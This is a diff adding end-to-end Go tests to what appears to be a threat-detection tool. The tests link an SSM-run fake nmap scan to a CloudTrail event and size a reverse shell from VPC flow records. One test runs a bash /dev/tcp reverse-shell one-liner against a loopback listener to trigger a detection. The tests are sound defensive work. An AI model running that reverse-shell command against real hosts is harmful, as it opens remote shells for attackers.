@@ -264,3 +264,145 @@ func TestSensorSilentWhenTheAgentIsKilled(t *testing.T) {
 		return len(b.detections(t, bin, "--rule", correlate.RuleSensorBack)) == 1 && sensor().Status == correlate.SensorOK
 	})
 }
+
+// startJoinAgent runs the real agent delivering to b, with cloud identity
+// from a fake IMDS on loopback (instance i-0e2e, private address
+// 10.9.8.7) when imds is set.
+func startJoinAgent(t *testing.T, bin, dir string, port int, imds string) {
+	t.Helper()
+	im := "imds:\n  enabled: false\n"
+	if imds != "" {
+		im = fmt.Sprintf("imds:\n  endpoint: %s\n  timeout: 2s\n", imds)
+	}
+	conf := fmt.Sprintf("output: none\nalerts: none\nenv: e2e\nheartbeat_interval: 1s\nstate_dir: %s\n%srules:\n  dedup_window: 0s\n"+
+		"nats:\n  url: nats://127.0.0.1:%d\n", dir, im, port)
+	startConfigured(t, bin, filepath.Join(dir, "agent.yaml"), conf)
+}
+
+func fakeIMDS(t *testing.T, instance, ip string) string {
+	t.Helper()
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/latest/api/token":
+			w.Write([]byte("t"))
+		case "/latest/dynamic/instance-identity/document":
+			fmt.Fprintf(w, `{"instanceId":%q,"accountId":"111122223333","region":"eu-west-1","privateIp":%q}`, instance, ip)
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	t.Cleanup(srv.Close)
+	return srv.URL
+}
+
+func ingestLines(t *testing.T, bin string, b *backendProc, dir, source string, lines []string, args ...string) {
+	t.Helper()
+	f := filepath.Join(dir, source+".log")
+	if err := os.WriteFile(f, []byte(strings.Join(lines, "\n")+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	cmd := append([]string{"ingest", source, "--env", "e2e", "--nats-url", b.nats}, args...)
+	if out, err := exec.Command(bin, append(cmd, f)...).CombinedOutput(); err != nil {
+		t.Fatalf("ingest: %v\n%s", err, out)
+	}
+}
+
+// Join (b), end to end: what an SSM command ran on the host (a script in
+// an SSM-shaped orchestration directory, run by a shell: the agent sees the
+// path in the alert's ancestry) and the CloudTrail SendCommand with that
+// command id are one threat naming the IAM user who sent it; the host's
+// agent knows no instance id, so only the command id links them.
+func TestThreatSSMCommandJoinsWhatRan(t *testing.T) {
+	bin := vigilBin(t)
+	dir := t.TempDir()
+	port := freePort(t)
+	b := startBackend(t, bin, filepath.Join(dir, "data"), port, "")
+	startJoinAgent(t, bin, dir, port, "")
+	const cmd = "7c1e2d3f-4a5b-4c6d-8e9f-a0b1c2d3e4f5"
+	script := filepath.Join(dir, "var/lib/amazon/ssm/mi-0e2e/document/orchestration", cmd, "awsrunShellScript/0.awsrunShellScript/_script.sh")
+	if err := os.MkdirAll(filepath.Dir(script), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	nmap := fakeTool(t, dir, "nmap")
+	if err := os.WriteFile(script, []byte("#!/bin/sh\n"+nmap+" -sS 127.0.0.1\ntrue\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	waitFor(t, 60*time.Second, func() bool {
+		_ = exec.Command("/bin/sh", script).Run()
+		return len(b.detections(t, bin, "--rule", "Network scanner executed")) > 0
+	})
+	ingestLines(t, bin, b, dir, "cloudtrail", []string{fmt.Sprintf(`{"eventVersion":"1.08","eventTime":%q,"eventSource":"ssm.amazonaws.com","eventName":"SendCommand","eventID":"ssm-e2e",`+
+		`"awsRegion":"eu-west-1","recipientAccountId":"111122223333","sourceIPAddress":"198.51.100.20","userAgent":"aws-cli/2.15",`+
+		`"userIdentity":{"type":"IAMUser","principalId":"AIDAX","arn":"arn:aws:iam::111122223333:user/mallory","accountId":"111122223333","accessKeyId":"AKIAMALLORY","userName":"mallory"},`+
+		`"requestParameters":{"instanceIds":["mi-0e2e"],"documentName":"AWS-RunShellScript"},`+
+		`"responseElements":{"command":{"commandId":%q,"documentName":"AWS-RunShellScript","instanceIds":["mi-0e2e"]}}}`, time.Now().UTC().Format(time.RFC3339), cmd)})
+	got := b.waitThreat(t, bin, "Network scanner executed", "SSM command sent to instances")
+	if len(got) != 1 {
+		t.Fatalf("%d threats: %+v", len(got), got)
+	}
+	th := got[0]
+	if !slices.ContainsFunc(th.Actors, func(e alert.Entity) bool {
+		return e.Kind == alert.KindPrincipal && e.ID == "arn:aws:iam::111122223333:user/mallory"
+	}) ||
+		!slices.ContainsFunc(th.Resources, func(e alert.Entity) bool { return e.Kind == alert.KindSSMCommand && e.ID == cmd }) {
+		t.Errorf("actors %v resources %v", th.Actors, th.Resources)
+	}
+}
+
+// Join (d), end to end: a loopback reverse shell from the host (the real
+// agent's "Shell connecting to the network" names the remote), and flow
+// records from the host's address to that remote: the threat gains the
+// bytes sent and the duration, and is raised for the size.
+func TestThreatFlowsGiveTheExfiltrationSize(t *testing.T) {
+	bin := vigilBin(t)
+	dir := t.TempDir()
+	port := freePort(t)
+	b := startBackend(t, bin, filepath.Join(dir, "data"), port, "")
+	startJoinAgent(t, bin, dir, port, fakeIMDS(t, "i-0flow", "10.9.8.7"))
+	waitFor(t, 30*time.Second, func() bool { return b.hosts(t) > 0 })
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			_, _ = c.Write([]byte("exit\n"))
+			time.Sleep(200 * time.Millisecond)
+			c.Close()
+		}
+	}()
+	rport := ln.Addr().(*net.TCPAddr).Port
+	waitFor(t, 60*time.Second, func() bool {
+		_ = exec.Command("bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", rport)).Run()
+		return len(b.detections(t, bin, "--rule", "Shell connecting to the network")) > 0
+	})
+	start := time.Now().Add(-time.Minute).Unix()
+	ingestLines(t, bin, b, dir, "vpcflow", []string{
+		"version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status",
+		fmt.Sprintf("2 111122223333 eni-0flow 10.9.8.7 127.0.0.1 50000 %d 6 9000 30000000 %d %d ACCEPT OK", rport, start, start+60),
+		fmt.Sprintf("2 111122223333 eni-0flow 10.9.8.7 127.0.0.1 50000 %d 6 9000 30000000 %d %d ACCEPT OK", rport, start+60, start+120),
+		fmt.Sprintf("2 111122223333 eni-0flow 127.0.0.1 10.9.8.7 %d 50000 6 100 4000 %d %d ACCEPT OK", rport, start, start+120),
+	})
+	var th alert.Threat
+	waitFor(t, 60*time.Second, func() bool {
+		for _, x := range b.threats(t, bin) {
+			if len(x.Network) > 0 && x.Network[0].Flows == 3 {
+				th = x
+				return true
+			}
+		}
+		return false
+	})
+	x := th.Network[0]
+	if x.Remote != "127.0.0.1" || x.BytesOut != 60000000 || x.BytesIn != 4000 || x.Seconds != 120 {
+		t.Errorf("exchange %+v", x)
+	}
+	if th.Severity != alert.Critical || !slices.ContainsFunc(th.Reasons, func(r string) bool { return strings.Contains(r, "bytes sent") }) {
+		t.Errorf("threat %s %v", th.Severity, th.Reasons)
+	}
+}
